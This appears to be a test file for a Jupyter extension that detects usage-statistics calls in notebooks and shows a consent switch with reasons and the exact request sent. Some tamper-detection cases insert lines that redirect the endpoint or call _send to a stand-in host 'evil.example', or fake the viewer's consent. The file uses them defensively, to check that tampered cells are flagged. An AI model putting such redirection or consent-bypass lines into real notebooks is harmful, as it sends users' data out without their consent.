import { describe, expect, test } from 'vitest';
import { callState } from '../../jupyter-extension/src/toggle/call-state.ts';
import { shown } from '../../jupyter-extension/src/toggle/shown.ts';
import { readSettings } from '../../jupyter-extension/src/usage/settings.ts';
import { reportOpened, requestUrl } from '../../src/beacon/payload.ts';
import { type Choice, decide, type No } from '../../src/consent/decide.ts';
import { hashOfArn } from '../../src/consent/usage.ts';
import { VERSION } from '../../src/model/version.ts';
import { codeCells, type Notebook, sourceOf } from '../notebooks.ts';
import { ARN, answered, asking, smallNotebook } from '../writers/notebook-cell.ts';
import { BUCKET, CALL, SERVICE_ARN, serviceNotebook } from './service-notebook.ts';

const ENDPOINT = 'https://stats.example.org/count';
const codesOf = (notebook: string) => codeCells(JSON.parse(notebook) as Notebook).map(sourceOf);
const ours = codesOf(await smallNotebook(asking(ENDPOINT)));
const silent = codesOf(await smallNotebook());
const service = codesOf(serviceNotebook());
const START = '# --- usage statistics ---';
const END = '# --- end of usage statistics ---';
const OPTED_OUT = 'setup_profiler_report(processing_job_arn, opt_out=True)';
const OURS_CALL = '\nsetup_profiler_report(processing_job_arn, opt_out=False)';

/** The cells with a text replaced in whichever has it. */
const changed = (cells: readonly string[], from: string, to: string) => {
  const made = cells.map((cell) => cell.replace(from, () => to));
  if (made.join() === cells.join()) throw new Error(`${from} is in no cell`);
  return made;
};

/** What the switch shows to a viewer with these answers. */
function show(
  cells: readonly string[],
  choices: readonly Choice[] = [],
  noes: Partial<Record<No, boolean>> = {},
  writable = true,
) {
  const state = callState(cells);
  if (!state) throw new Error('no report');
  const settings = { ...readSettings({}, {}), choices };
  const usage = {
    settings,
    decide: ({ optOut = false, ...about }: { endpoint: string | undefined; policyVersion: number; optOut?: boolean }) =>
      decide({ ...about, ...noes, scope: 'viewer', choices, canAsk: true, opt_out: optOut }),
  };
  return shown(state, usage, writable);
}

describe('the call', () => {
  test.each([
    ['ours', ours, { kind: 'ours', optOut: false, arn: ARN }],
    ['ours that opts out', changed(ours, OURS_CALL, OURS_CALL.replace('False', 'True')), { kind: 'ours', optOut: true }],
    [
      'ours in two cells',
      [...ours.slice(0, 4), ...(ours[4] ?? '').split(/\n(?=setup_profiler)/)],
      { kind: 'ours', optOut: false },
    ],
    ['ours made silent', silent, { kind: 'silent', why: 'this notebook holds no code that could tell anybody' }],
    ['ours made silent that says False', changed(silent, 'opt_out=True', 'opt_out=False'), { kind: 'silent' }],
    ['ours without the call', changed(ours, OURS_CALL, ''), { kind: 'silent', why: expect.stringContaining('does not call') }],
    ['of the service', service, { kind: 'service', optOut: false, arn: SERVICE_ARN, cell: 4 }],
    [
      'of the service that opts out',
      codesOf(serviceNotebook({ call: 'setup_profiler_report(processing_job_arn, True)' })),
      { kind: 'service', optOut: true },
    ],
    ['of the service, not where it was', ['', '', 'import smdebug', `smdebug.${CALL}`], { kind: 'service', arn: undefined }],
    ['of the service with its ARN', [`setup_profiler_report('${ARN}')`], { kind: 'service', arn: ARN }],
    ['twice', [...service, CALL], { kind: 'by hand', optOut: false }],
    [
      'twice, opting out',
      ['setup_profiler_report(a, True)', 'setup_profiler_report(a, opt_out=True)'],
      { kind: 'by hand', optOut: true },
    ],
    [
      'with another value',
      codesOf(serviceNotebook({ call: 'setup_profiler_report(arn, opt_out=not told)' })),
      { kind: 'by hand', optOut: false },
    ],
    ['with 1', codesOf(serviceNotebook({ call: 'setup_profiler_report(arn, 1)' })), { kind: 'by hand' }],
    ['that unpacks', codesOf(serviceNotebook({ call: 'setup_profiler_report(*told)' })), { kind: 'by hand' }],
    ['half written', codesOf(serviceNotebook({ call: 'setup_profiler_report(arn, opt_out=' })), { kind: 'by hand' }],
    ['under another name', codesOf(serviceNotebook({ call: 'tell = setup_profiler_report\ntell(arn)' })), { kind: 'by hand' }],
    ['within a text too', codesOf(serviceNotebook({ call: `${CALL}\nexec("setup_profiler_report(a)")` })), { kind: 'by hand' }],
    [
      'of a function of its own',
      ['def setup_profiler_report(a, opt_out=False):\n    tell(a)', CALL],
      { kind: 'by hand', optOut: false },
    ],
    ['of ours that does more', changed(silent, 'statistics.")\n', 'statistics.")\n    tell(arn)\n'), { kind: 'by hand' }],
    ['of ours that prints what it finds', changed(silent, 'print("', 'print(f"'), { kind: 'by hand' }],
    [
      'of ours before the service, imported behind',
      [...silent, 'from smdebug import setup_profiler_report'],
      { kind: 'by hand' },
    ],
    ['of ours and the service', ['from smdebug import setup_profiler_report', ...ours], { kind: 'by hand' }],
    ['of ours to another address', changed(ours, ENDPOINT, 'ftp://stats.example.org'), { kind: 'by hand' }],
    ['of ours to an address made up', changed(ours, `"${ENDPOINT}"`, 'address()'), { kind: 'by hand' }],
    ['of ours without its end', changed(changed(ours, END, ''), OURS_CALL, `\n${OPTED_OUT}`), { kind: 'by hand', optOut: false }],
    [
      'of a function of its own, twice, opting out',
      [
        'def setup_profiler_report(a, opt_out=False):\n    tell(a)',
        'setup_profiler_report(a, True)\nsetup_profiler_report(a, True)',
      ],
      { kind: 'by hand', optOut: false },
    ],
    [
      'by its name in a text',
      codesOf(serviceNotebook({ call: `globals()["setup_profiler_report"](a)\n${OPTED_OUT}` })),
      { kind: 'by hand', optOut: false },
    ],
    [
      'of ours in two cells, opting out',
      changed([...ours.slice(0, 5), ...ours.slice(4)], OURS_CALL, `\n${OPTED_OUT}`),
      { kind: 'by hand', optOut: false },
    ],
    [
      'of ours, written by another version',
      changed(ours, '"HOME"', '"HOUSE"'),
      { kind: 'by hand', why: expect.stringMatching(/version/) },
    ],
  ])('%s', (_, cells, expected) => {
    expect(callState(cells)).toMatchObject(expected);
  });

  test.each([
    ['an answer passed over', 'elif not allowed:', 'elif False:'],
    ['another request', '"GET {url}', '"GET {url} '],
    ['an address given anew within', '_HASHED = False', '_HASHED = False\nif True:\n    _ENDPOINT = "https://evil.example/"'],
    ['an address given anew in brackets', '_HASHED = False', '_HASHED = False\n(_ENDPOINT) = "https://evil.example/"'],
    ['an address made longer', '_HASHED = False', '_HASHED = False\n_ENDPOINT += "evil"'],
    ['an address that is two texts', `"${ENDPOINT}"`, `"${ENDPOINT}" \\\n"evil"`],
    ['more on the line of a constant', '_HASHED = False', '_HASHED = False; _ENDPOINT = "https://evil.example/"'],
    ['another order of the constants', '_HASHED = False', '_HASHED = False\n_HASHED = True'],
    ['a version that Python reads otherwise', '_POLICY_VERSION = 1', '_POLICY_VERSION = 1_0'],
    ['another artifact', 'profiler-report/0', 'profiler-report/00'],
    ['an artifact that tells more', 'profiler-report/0', 'profiler-report/1234'],
  ])('of ours with %s counts as written by hand', (_, from, to) => {
    for (const cells of [ours, changed(ours, OURS_CALL, ''), changed(ours, OURS_CALL, `\n${OPTED_OUT}`)]) {
      expect(callState(changed(cells, from, to))).toMatchObject({ kind: 'by hand', optOut: false });
    }
  });

  test.each([
    ['_viewer_decides = lambda *a: (True, "choice", "x")'],
    ['def _viewer_decides(*a):\n    return True, "choice", "x"'],
    ['_ENDPOINT = "https://evil.example/"'],
    ['if True:\n    _ENDPOINT += "evil"'],
    ['_TOLD.clear()'],
    ['globals()["_ENDPOINT"] = "https://evil.example/"'],
    ['from evil import _send'],
    ['_send("https://evil.example/")'],
    ['_send(_request_url(processing_job_arn))'],
  ])('of ours beside %j counts as written by hand', (code) => {
    const off = changed(ours, OURS_CALL, `\n${OPTED_OUT}`);
    const none = changed(ours, OURS_CALL, '');
    for (const cells of [ours, off, none].flatMap((one) => [
      [code, ...one],
      [...one, code],
      one.map((cell) => cell.replace(END, `${END}\n${code}`)),
      one.map((cell) => cell.replace(START, `${code}\n${START}`)),
    ])) {
      expect(callState(cells)).toMatchObject({ kind: 'by hand', optOut: false });
    }
  });

  test('of ours beside plain code is ours', () => {
    const code = 'import json, os\nsend(os.environ, json=json, _sender=re.sub)  # _send\nfor os_ in re: pass';
    expect(callState([code, ...ours, code])).toMatchObject({ kind: 'ours', arn: ARN });
  });

  test.each([
    ['nothing', []],
    ['other code', ['import json', 'processing_job_arn = "x"']],
    ['a comment', [`# ${CALL}`]],
    ['a text', [`print("${CALL}")`]],
    ['a function of that name alone', ['def setup_profiler_report(arn):\n    tell(arn)']],
  ])('of a foreign notebook with %s is none', (_, cells) => {
    expect(callState(cells)).toBeUndefined();
  });

  test.each([
    ['True', ours, OURS_CALL, OURS_CALL.replace('False', 'True')],
    ['True', service, CALL, 'setup_profiler_report(processing_job_arn, opt_out=True)'],
    [
      'False',
      changed(service, CALL, `${CALL.slice(0, -1)},  True )`),
      `${CALL.slice(0, -1)},  True )`,
      `${CALL.slice(0, -1)},  False )`,
    ],
  ] as const)('is given %s by one edit', (value, cells, from, to) => {
    const state = callState(cells);
    if (state?.kind !== 'ours' && state?.kind !== 'service') throw new Error('nothing to give it to');
    const { start, end, text } = state.give(value);
    const source = cells[state.cell] ?? '';
    expect(source.slice(0, start) + text + source.slice(end)).toBe(source.replace(from, to));
  });

  test('is told by the last ARN before it', () => {
    expect(callState(['processing_job_arn = "a"', 'processing_job_arn = "b"  # that one', CALL])).toMatchObject({ arn: 'b' });
    expect(callState(['processing_job_arn = "a"\n# that:\rprocessing_job_arn = "b"', CALL])).toMatchObject({ arn: 'b' });
    expect(callState(['processing_job_arn = "a"\nprint(processing_job_arn, 1)', CALL])).toMatchObject({ arn: 'a' });
  });

  test.each([
    ['processing_job_arn = "a" + b'],
    ['for processing_job_arn in ["OTHER"]: pass'],
    ['x = 1; processing_job_arn = "OTHER"'],
    ['processing_job_arn = "a"; processing_job_arn = "OTHER"'],
    ['processing_job_arn, _ = "OTHER", 0'],
    ['_, processing_job_arn = 0, "OTHER"'],
    ['(processing_job_arn) = "OTHER"'],
    ['print\n(_, processing_job_arn) = 0, "OTHER"'],
    ['processing_job_arn += "-two"'],
    ['processing_job_arn = x = "OTHER"'],
    ['if True:\n  processing_job_arn = "OTHER"'],
    ['if False: \\\nprocessing_job_arn = "OTHER"'],
    ['if False: \\\rprocessing_job_arn = "OTHER"'],
    ['processing_job_arn: str = "OTHER"'],
    ['processing_job_arn = f"{x}"'],
    ['processing_job_arn = "OTHER" \\\n "x"'],
    ['processing_job_arn = "a" "b"'],
    ['processing_job_arn = "\\x61"'],
    ['dict(\nprocessing_job_arn = "OTHER"\n)'],
    ['print(processing_job_arn := "OTHER")'],
    ['with a as (processing_job_arn, b): pass'],
    ['%store -r processing_job_arn'],
    ['%%script false\nprocessing_job_arn = "OTHER"'],
    ['globals()["processing_job_arn"] = "OTHER"'],
    ['exec("""\nprocessing_job_arn = "OTHER"\n""")'],
    ['del processing_job_arn'],
  ])('is told by no ARN where there is %j', (code) => {
    const cells = [`processing_job_arn = "${ARN}"`, CALL];
    expect(callState(cells)).toMatchObject({ arn: ARN });
    for (const told of [cells.toSpliced(1, 0, code), [cells[0] ?? '', `${code}\n${CALL}`]]) {
      expect(callState(told)).toMatchObject({ kind: 'service', arn: undefined });
    }
  });
});

const yes = answered('granted', ENDPOINT);
const no = answered('denied', ENDPOINT);
const oursOff = changed(ours, OURS_CALL, OURS_CALL.replace('False', 'True'));
const serviceOff = codesOf(serviceNotebook({ call: 'setup_profiler_report(processing_job_arn, opt_out=True)' }));
const url = requestUrl(ENDPOINT, reportOpened(VERSION, ARN));

describe('the switch', () => {
  test.each([
    [
      'ours, not asked',
      ours,
      [],
      {},
      { on: false, can: true, reason: expect.stringMatching(/^Off: you have not said yes\. .*consent/) },
    ],
    [
      'ours, yes',
      ours,
      [yes],
      {},
      { on: true, can: true, reason: `On: you said yes. Running this notebook tells ${ENDPOINT} that it was opened.` },
    ],
    ['ours, no', ours, [no], {}, { on: false, can: true, reason: 'Off: you said no.' }],
    [
      'ours, opted out in spite of a yes',
      oursOff,
      [yes],
      {},
      { on: false, can: true, reason: 'Off: the notebook says opt_out=True.' },
    ],
    [
      'ours, an administrator says no',
      ours,
      [],
      { override: true },
      { on: false, can: false, reason: expect.stringMatching(/^Off: an administrator/) },
    ],
    [
      'ours, off, an administrator says no',
      oursOff,
      [yes],
      { override: true },
      { on: false, can: false, reason: expect.stringMatching(/administrator/) },
    ],
    [
      'ours, a yes that its code finds and an administrator',
      ours,
      [yes],
      { override: true },
      { on: true, can: true, reason: expect.stringMatching(/cannot know that an administrator/) },
    ],
    [
      'ours, a yes and a browser that asks for privacy',
      ours,
      [yes],
      { globalPrivacyControl: true },
      { on: true, can: true, reason: expect.stringMatching(/cannot know that the browser/) },
    ],
    [
      'ours, about no job',
      changed(ours, ARN, 'nothing'),
      [yes],
      {},
      { on: false, can: false, reason: expect.stringMatching(/not the ARN/) },
    ],
    ['ours, about a job that is computed', changed(ours, `"${ARN}"`, 'job()'), [yes], {}, { on: true, can: true }],
    [
      'ours, off about a job that is computed',
      changed(oursOff, `"${ARN}"`, 'job()'),
      [],
      {},
      { on: false, can: false, reason: expect.stringMatching(/not written out/) },
    ],
    ['silent', silent, [yes], {}, { on: false, can: false, reason: 'Off: this notebook holds no code that could tell anybody.' }],
    ['service', service, [], {}, { on: true, can: true, reason: `On: running this notebook tells ${BUCKET} and asks nobody.` }],
    [
      'service, no',
      service,
      [no],
      {},
      { on: true, can: true, reason: expect.stringMatching(/asks nobody, also where you said no\.$/) },
    ],
    [
      'service, an administrator says no',
      service,
      [],
      { override: true },
      { on: true, can: true, reason: expect.stringMatching(/administrator/) },
    ],
    [
      'service, about an unknown job',
      changed(service, SERVICE_ARN, ''),
      [],
      {},
      { on: true, can: true, reason: expect.stringMatching(/tells the service/) },
    ],
    ['service, off', serviceOff, [], {}, { on: false, can: true, reason: 'Off: the notebook says opt_out=True.' }],
    [
      'service, off, an administrator says no',
      serviceOff,
      [],
      { override: true },
      { on: false, can: false, reason: expect.stringMatching(/cannot be switched on: an administrator/) },
    ],
    [
      'service, off about an unknown job',
      changed(serviceOff, SERVICE_ARN, ''),
      [],
      {},
      { on: false, can: false, reason: expect.stringMatching(/not written out/) },
    ],
    [
      'by hand',
      [...service, CALL],
      [no],
      {},
      {
        on: true,
        can: false,
        reason: expect.stringMatching(
          /^Changed by hand or made by another version, so it is left alone: .* more than once\. It may tell somebody\.$/,
        ),
      },
    ],
    ['by hand, opting out', [...serviceOff, 'setup_profiler_report(a, True)'], [], {}, { on: false, can: false }],
  ])('%s', (_, cells, choices, noes, expected) => {
    expect(show(cells, choices, noes)).toMatchObject(expected);
  });

  test('of a file that cannot be written stays as it is and says so', () => {
    expect(show(service, [], {}, false)).toMatchObject({
      on: true,
      can: false,
      reason: expect.stringMatching(/asks nobody\. This file cannot be written\.$/),
    });
  });

  test('shows the exact request', () => {
    expect(show(ours).question).toEqual({ endpoint: ENDPOINT, policyVersion: 1, url, by: 'notebook' });
    const request = `${BUCKET}?x-artifact-id=profiler_report_v1&x-arn=${SERVICE_ARN}`;
    expect(show(serviceOff).question).toEqual({ endpoint: BUCKET, policyVersion: 1, url: request, by: 'service' });
  });

  test('shows the hash where that is sent', async () => {
    const hashed = codesOf(await smallNotebook(asking(ENDPOINT, true)));
    expect(show(hashed).question?.url).toBe(requestUrl(ENDPOINT, reportOpened(VERSION, hashOfArn(ARN))));
  });
});
